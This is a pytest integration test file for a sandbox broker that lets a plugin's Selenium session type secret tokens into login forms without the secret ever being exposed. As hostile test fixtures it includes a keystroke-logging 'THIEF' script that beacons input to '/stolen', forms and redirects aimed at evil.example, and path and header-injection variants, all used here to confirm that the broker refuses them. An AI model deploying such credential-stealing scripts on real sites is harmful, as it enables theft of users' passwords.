"""A plugin's Selenium at the broker: it logs in, and it never has the secret.

Where pages are looked into is `clawdbot.sandbox.world`.
"""

import asyncio
import json
import socket
from collections.abc import AsyncIterator, Callable
from functools import partial

import pytest
import pytest_asyncio
from selenium.common.exceptions import WebDriverException
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.remote.webdriver import WebDriver
from selenium.webdriver.support.ui import WebDriverWait

from clawdbot.plugins import frames
from clawdbot.sandbox.broker import Broker
from tests.integration.sandbox.browsing import EVIL, LOGIN, MAIL, Desk, Sites, desk
from tests.patience import PATIENCE_S

pytestmark = pytest.mark.asyncio(loop_scope="module")

USERNAME, PASSWORD = "secret://mail#username", "secret://mail#password"
# Whatever it sees of keys and values goes home.
THIEF = """<input id=password type=password><script>
const field = document.getElementById("password");
setInterval(() => field.focus(), 5);
for (const name of ["keydown", "input"]) field.addEventListener(name, (event) =>
  navigator.sendBeacon("/stolen", name + (event.key ?? "") + field.value));
</script>"""
ECHO = f"""{LOGIN}<script>
document.querySelector("form").onsubmit = () => false;
const field = document.getElementById("password");
field.addEventListener("input", () => {{
  document.getElementById("said").textContent = "you said " + field.value;
  document.title = field.value;
  field.setAttribute("value", field.value);
  history.replaceState(0, "", "?word=" + encodeURIComponent(field.value));
}});
</script>"""


@pytest_asyncio.fixture(loop_scope="module", scope="module", name="at")
async def at_(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Desk]:
    async with desk(tmp_path_factory.mktemp("browser")) as made:
        yield made


@pytest.fixture(autouse=True)
def kept(at: Desk) -> None:
    at.sites.heard.clear()
    at.traffic.clear()


def field(driver: WebDriver, name: str = "password"):
    return driver.find_element(By.ID, name)


def refused(act: Callable[[], object]) -> str:
    """Do what must not work, and give what is said of it."""
    try:
        found = act()
    except WebDriverException as error:
        return str(error.msg)
    raise AssertionError((act.__code__.co_firstlineno, found))


def assert_kept(at: Desk) -> None:
    """Neither the worker nor the other site ever saw the secret."""
    assert b"c4nary" not in at.traffic
    assert "c4nary" not in at.sites.heard_by(EVIL)


async def test_a_plugin_logs_in_with_tokens(at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> list[str]:
        driver.get(sites.at(MAIL))
        driver.implicitly_wait(5)
        assert field(driver).is_displayed()
        assert "password" == field(driver).get_attribute("type")
        field(driver, "user").send_keys(USERNAME)
        field(driver).send_keys(PASSWORD, Keys.ENTER)
        return [each.text for each in driver.find_elements(By.CSS_SELECTOR, "h1, .mail")]

    assert ["Inbox", "Lunch?"] == await at.play(plugin)
    assert_kept(at)


async def test_a_plugin_submits_a_form_and_reads_on(at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> str:
        driver.get(sites.at(MAIL))
        field(driver, "user").send_keys(USERNAME)
        field(driver).send_keys(PASSWORD)
        field(driver).submit()
        WebDriverWait(driver, PATIENCE_S, 0.02).until(
            lambda _: driver.find_elements(By.CLASS_NAME, "mail")
        )
        found = driver.page_source  # no document is left into which the secret was typed
        driver.back()
        for name in ("user", "password"):
            refused(partial(field(driver, name).get_property, "value"))
        return found

    assert "Lunch?" in await at.play(plugin)
    assert_kept(at)


@pytest.mark.parametrize("start", [(EVIL, "/"), (MAIL, "/to?url=http://evil.example:{port}/")])
async def test_no_other_origin_gets_it(start: tuple[str, str], at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> list[str]:
        sites.pages[f"{EVIL}/"] = THIEF
        driver.get(sites.at(start[0], start[1].format(port=sites.port)))
        said = refused(lambda: field(driver).send_keys(PASSWORD))
        return [said, str(field(driver).get_property("value"))]

    assert ["There is no such secret for this address.", ""] == await at.play(plugin)
    assert_kept(at)


@pytest.mark.parametrize(
    "frame",
    [
        "<iframe src='http://evil.example:{port}/'></iframe>",
        "<iframe sandbox='allow-scripts allow-forms' src='/'></iframe>",
        '<iframe srcdoc="<input id=password type=password>"></iframe>',
        '<iframe src="data:text/html,<input id=password type=password>"></iframe>',
        "<iframe src='http://mail.example:{port}/to?url=http://evil.example:{port}/'></iframe>",
    ],
)  # fmt: skip
async def test_a_frame_of_another_origin_gets_nothing(frame: str, at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> str:
        sites.pages[f"{EVIL}/"] = THIEF
        sites.pages[f"{MAIL}/frame"] = frame.format(port=sites.port)
        driver.get(sites.at(MAIL, "/frame"))
        driver.switch_to.frame(0)
        refused(lambda: field(driver).send_keys(PASSWORD))
        return str(field(driver).get_property("value"))

    assert "" == await at.play(plugin)
    assert_kept(at)


async def test_a_popup_of_another_origin_gets_nothing(at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> None:
        sites.pages[f"{EVIL}/"] = THIEF
        opens = f"<a id=a target=_blank href='{sites.at(EVIL)}'>more</a>"
        sites.pages[f"{MAIL}/opens"] = opens
        driver.get(sites.at(MAIL, "/opens"))
        driver.find_element(By.ID, "a").click()
        WebDriverWait(driver, PATIENCE_S, 0.02).until(lambda _: len(driver.window_handles) == 2)
        driver.switch_to.window(driver.window_handles[-1])
        for handle in driver.window_handles:
            driver.switch_to.window(handle)
            if driver.find_elements(By.ID, "password"):
                refused(lambda: field(driver).send_keys(PASSWORD))

    await at.play(plugin)
    assert_kept(at)


async def test_only_addresses_of_the_web_are_opened(at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> None:
        driver.get(sites.at(MAIL))
        for url in (
            "file:///etc/passwd", "chrome://settings", "about:blank", "javascript:alert(1)",
            "data:text/html,x", "view-source:http://mail.example/", "blob:http://mail.example/1",
            " http://mail.example/", "devtools://devtools", "ftp://mail.example/", "//mail.example",
        ):  # fmt: skip
            assert "http and https" in refused(partial(driver.get, url))
        assert sites.at(MAIL) == driver.current_url

    await at.play(plugin)


@pytest.mark.parametrize(
    "form",
    [
        "<form method=post action='http://evil.example:{port}/stolen'>",
        "<form method=post><button formaction='http://evil.example:{port}/'>go</button>",
        "<base href='http://evil.example:{port}/'><form method=post action='stolen'>",
        "<form method=post action='mailto:eve@evil.example'>",
    ],
)
async def test_a_form_that_leads_elsewhere_gets_nothing(form: str, at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> str:
        page = f"{form.format(port=sites.port)}<input type=password name=p id=password></form>"
        sites.pages[f"{MAIL}/form"] = page
        driver.get(sites.at(MAIL, "/form"))
        said = refused(lambda: field(driver).send_keys(PASSWORD, Keys.ENTER))
        field(driver).send_keys(Keys.ENTER)
        return said

    assert "The form would send the secret to another origin." == await at.play(plugin)
    assert_kept(at)


async def test_a_frame_that_takes_the_focus_gets_no_key(at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> None:
        sites.pages[f"{EVIL}/"] = THIEF
        frame = f"<iframe src='{sites.at(EVIL)}'></iframe>"
        sites.pages[f"{MAIL}/ads"] = f"{LOGIN}{frame}"
        for _ in range(5):
            driver.get(sites.at(MAIL, "/ads"))
            field(driver).send_keys(PASSWORD)

    await at.play(plugin)
    assert_kept(at)


async def test_a_page_that_goes_elsewhere_while_it_is_typed_gives_nothing_away(at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> None:
        sites.pages[f"{EVIL}/"] = THIEF
        leaves = f"<script>location = '{sites.at(EVIL)}'</script>"
        sites.pages[f"{MAIL}/now"] = f"<input id=password type=password>{leaves}"
        focus = f"<input id=password type=password onfocus=\"location = '{sites.at(EVIL)}'\">"
        sites.pages[f"{MAIL}/focus"] = focus
        for path in ("/now", "/focus") * 5:
            driver.get(sites.at(MAIL, path))
            try:
                field(driver).send_keys(PASSWORD, Keys.ENTER)
            except WebDriverException:
                continue

    await at.play(plugin)
    assert_kept(at)


async def test_nothing_reads_a_typed_secret_back(at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> None:
        driver.get(sites.at(MAIL))
        user, word = field(driver, "user"), field(driver)
        user.send_keys(USERNAME)
        word.send_keys(PASSWORD)
        looks: tuple[Callable[[], object], ...] = (
            lambda: driver.execute_script("return document.getElementById('password').value"),
            lambda: driver.execute_async_script("arguments[0](1)"),
            *(partial(element.get_property, "value") for element in (user, word)),
            *(partial(element.get_attribute, "value") for element in (user, word)),
            *(partial(element.get_dom_attribute, "value") for element in (user, word)),
            partial(word.get_property, "outerHTML"),
            partial(user.get_property, "defaultValue"),
            lambda: field(driver, "go").get_property("form"),
            lambda: driver.page_source,
            driver.get_screenshot_as_png,
            lambda: word.screenshot_as_png,
            driver.get_cookies,
            partial(user.send_keys, Keys.CONTROL, "ac"),
            partial(word.send_keys, Keys.SHIFT, Keys.INSERT),
            ActionChains(driver).key_down(Keys.CONTROL).send_keys("c").perform,
            partial(driver.find_element, By.CSS_SELECTOR, "input[value^=c]"),
            partial(driver.find_element, By.CSS_SELECTOR, r"input[v\61lue^=c]"),
            partial(driver.find_element, By.XPATH, "//input[starts-with(@*, 'c')]"),
            partial(driver.find_element, By.XPATH, "//input[attribute::node()='c']"),
        )
        for look in looks:
            assert "secret" in refused(look)
        driver.switch_to.new_window("tab")  # of the same origin, from where a script could look
        driver.get(sites.at(MAIL))
        refused(partial(driver.execute_script, "return 1"))
        assert "password" == field(driver).get_attribute("name")

    await at.play(plugin)
    assert_kept(at)


async def test_a_page_that_repeats_a_secret_is_not_read(at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> None:
        sites.pages[f"{MAIL}/echo"] = ECHO
        driver.get(sites.at(MAIL, "/echo"))
        said, body = field(driver, "said"), driver.find_element(By.TAG_NAME, "body")
        field(driver).send_keys(PASSWORD)
        for look in (
            lambda: driver.title,
            lambda: driver.current_url,
            lambda: said.text,
            lambda: body.text,
            lambda: said.get_property("textContent"),
            partial(driver.find_element, By.XPATH, "//p[contains(., 'said c')]"),
        ):
            assert "secret" in refused(look)

    await at.play(plugin)
    assert_kept(at)


async def test_waiting_for_what_a_page_repeats_later_tells_nothing(at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> list[str]:
        later = "setTimeout(() => { document.getElementById('said').append(field.value) }, 400)"
        field_ = 'const field = document.getElementById("password");'
        script = f"<script>{field_} field.addEventListener('input', () => {later})</script>"
        sites.pages[f"{MAIL}/later"] = LOGIN + script
        driver.get(sites.at(MAIL, "/later"))
        driver.implicitly_wait(1)
        field(driver).send_keys(PASSWORD)
        tried = ("//p[contains(., 'c4')]", "//p[contains(., 'c5')]")
        return [refused(partial(driver.find_element, By.XPATH, each)) for each in tried]

    right, wrong = await at.play(plugin)
    assert right == wrong  # whatever is guessed, the answer is the same
    assert "There is a secret on the page" in right


async def test_who_ran_a_script_types_no_secret(at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> str:
        driver.get(sites.at(MAIL))
        tap = "addEventListener('input', (e) => { localStorage.word = e.target.value })"
        driver.execute_script(tap)
        return refused(lambda: field(driver).send_keys(PASSWORD))

    assert "A task that ran a script types no secret." == await at.play(plugin)
    assert_kept(at)


@pytest.mark.parametrize(
    ("where", "text"),
    [
        ("user", PASSWORD),
        ("password", USERNAME),
        ("password", "secret://bank#password"),
        ("password", "secret://mail#pin"),
        ("password", f"x{PASSWORD}"),
        ("password", f"{PASSWORD}x"),
        ("password", PASSWORD + USERNAME),
        ("password", "Secret: secret://mail"),
        ("go", PASSWORD),
    ],
)
async def test_a_token_means_one_field_alone(where: str, text: str, at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> None:
        driver.get(sites.at(MAIL))
        refused(lambda: field(driver, where).send_keys(text))
        assert not field(driver, where).get_property("value")

    await at.play(plugin)
    assert_kept(at)


async def test_a_secret_that_was_not_given_to_the_call_is_not_typed(at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> str:
        driver.get(sites.at(MAIL))
        return refused(lambda: field(driver).send_keys(PASSWORD))

    said = await at.play(plugin, at.errand(secrets=()))
    assert "This call was not given that secret." == said


async def test_no_file_is_uploaded(at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> str:
        sites.pages[f"{MAIL}/file"] = "<input type=file id=password>"
        driver.get(sites.at(MAIL, "/file"))
        return refused(lambda: field(driver).send_keys("/etc/passwd"))

    assert "No file is uploaded." == await at.play(plugin)


async def test_two_tasks_see_nothing_of_each_other(at: Desk) -> None:
    began, looked = asyncio.Event(), asyncio.Event()
    loop = asyncio.get_running_loop()
    handles: list[str] = []

    def one(driver: WebDriver, sites: Sites) -> str:
        driver.get(sites.at(MAIL))
        driver.execute_script("document.cookie = 'a=1'; localStorage.a = 1")
        handles.extend(driver.window_handles)
        loop.call_soon_threadsafe(began.set)
        asyncio.run_coroutine_threadsafe(looked.wait(), loop).result(20)
        return driver.current_url

    def other(driver: WebDriver, sites: Sites) -> object:
        driver.get(sites.at(MAIL))
        assert not set(handles) & set(driver.window_handles)
        refused(lambda: driver.switch_to.window(handles[0]))
        return driver.execute_script("return document.cookie + localStorage.a")

    async with asyncio.TaskGroup() as group:
        first = group.create_task(at.play(one))
        await began.wait()
        assert "undefined" == await at.play(other)
        looked.set()
    assert at.sites.at(MAIL) == first.result()


async def test_the_browser_reaches_the_task_s_hosts_alone(at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> None:
        for url in (sites.at(EVIL), sites.at("127.0.0.1"), sites.at("localhost"), "http://[::1]/"):
            driver.get(url)
            assert not driver.find_elements(By.ID, "user")
        image = f"<img src='{sites.at(EVIL, '/pixel')}'><script>fetch('{sites.at(EVIL)}')</script>"
        sites.pages[f"{MAIL}/image"] = image
        driver.get(sites.at(MAIL, "/image"))

    from msgspec.structs import replace

    await at.play(plugin, replace(at.errand(), carry=lambda way: at.carry(way, MAIL)))
    assert "" == at.sites.heard_by(EVIL)
    assert {"GET"} == {line.split()[1] for line in at.sites.heard if line.startswith(MAIL)}


async def test_a_download_is_not_kept(at: Desk) -> None:
    def plugin(driver: WebDriver, sites: Sites) -> None:
        sites.pages[f"{MAIL}/down"] = "<a id=a download href=/file>x</a>"
        driver.get(sites.at(MAIL, "/down"))
        driver.find_element(By.ID, "a").click()
        driver.get(sites.at(MAIL))

    await at.play(plugin)
    assert [] == list(at.folder.rglob("downloads/*"))


class Line:
    """A worker's end, without Selenium."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        sock.setblocking(False)

    async def raw(self, data: bytes) -> bytes:
        loop = asyncio.get_running_loop()
        await loop.sock_sendall(self.sock, data)
        return await loop.sock_recv(self.sock, 1 << 20)

    async def ask(self, method: str, path: str, body: object = None) -> tuple[int, str]:
        asked = {"method": method, "path": path} | ({} if body is None else {"body": body})
        answer = json.loads((await self.raw(frames.framed(json.dumps(asked).encode())))[4:])
        return answer["status"], json.dumps(answer["value"])


async def test_what_is_not_on_the_list_is_refused_in_every_spelling(at: Desk) -> None:
    ours, theirs = socket.socketpair()
    with ours, theirs:
        async with Broker(at.browsers, ours).call(at.errand()):
            line = Line(theirs)
            wish = {"capabilities": {"alwaysMatch": {"goog:chromeOptions": {"args": ["--x"]}}}}
            assert 500 == (await line.ask("GET", "/session/x/url"))[0]
            status, value = await line.ask("POST", "/session", wish)
            session = json.loads(value)["sessionId"]
            assert (200, "chrome") == (status, json.loads(value)["capabilities"]["browserName"])
            assert 500 == (await line.ask("POST", "/session", wish))[0]
            at_ = f"/session/{session}"
            for method, path in (
                ("GET", "/status"), ("GET", "/sessions"), ("GET", "/shutdown"),
                ("POST", f"{at_}/goog/cdp/execute"), ("POST", f"{at_}/chromium/send_command"),
                ("POST", f"{at_}/se/file"), ("POST", f"{at_}/file"), ("GET", f"{at_}/se/log"),
                ("POST", f"{at_}/print"), ("POST", f"{at_}/permissions"),
                ("GET", f"{at_}//url"), ("GET", f"{at_}/url/"), ("GET", f"{at_}/URL"),
                ("GET", f"{at_}/%75rl"), ("GET", f"{at_}/./url"), ("GET", f"{at_}/x/../url"),
                ("GET", f"{at_}/url?x"), ("GET", f"{at_}/url#x"), ("GET", f"{at_}/url "),
                ("GET", f"{at_}/url\r\nX: y"), ("GET", f"//session/{session}/url"),
                ("GET", f"/SESSION/{session}/url"), ("GET", f"/session/{session.upper()}/url"),
                ("GET", f"/session/{'0' * 32}/url"), ("DELETE", f"{at_}/url"),
                ("GET", f"{at_}/element/x/text"), ("GET", f"{at_}/element/../url/text"),
                ("GET", f"{at_}/element/f.{'A' * 32}.d.{'A' * 32}.e.1/property/a%2fb"),
                ("PUT", f"{at_}/url"), ("GET\n", f"{at_}/url"),
            ):  # fmt: skip
                assert 500 == (await line.ask(method, path, {}))[0], path
            bodies: tuple[object, ...] = (None, [], {}, {"url": 1}, {"url": ["http://a"]}, "x")
            for body in bodies:
                assert 500 == (await line.ask("POST", f"{at_}/url", body))[0]
            for data in (b"", b"[]", b"{", b"\xff", b'{"method":"GET"}', b"[" * 9000):
                assert b'"status":500' in await line.raw(frames.framed(data))
            assert 200 == (await line.ask("GET", f"{at_}/title"))[0]
            assert b"" == await line.raw((frames.MOST + 1).to_bytes(4, "big") + b"x")


async def test_between_calls_the_line_leads_nowhere(at: Desk) -> None:
    ours, theirs = socket.socketpair()
    with ours, theirs:
        broker, line = Broker(at.browsers, ours), Line(theirs)
        async with broker.call(at.errand()):
            session = json.loads((await line.ask("POST", "/session"))[1])["sessionId"]
        async with broker.call(at.errand()):
            assert 500 == (await line.ask("GET", f"/session/{session}/url"))[0]
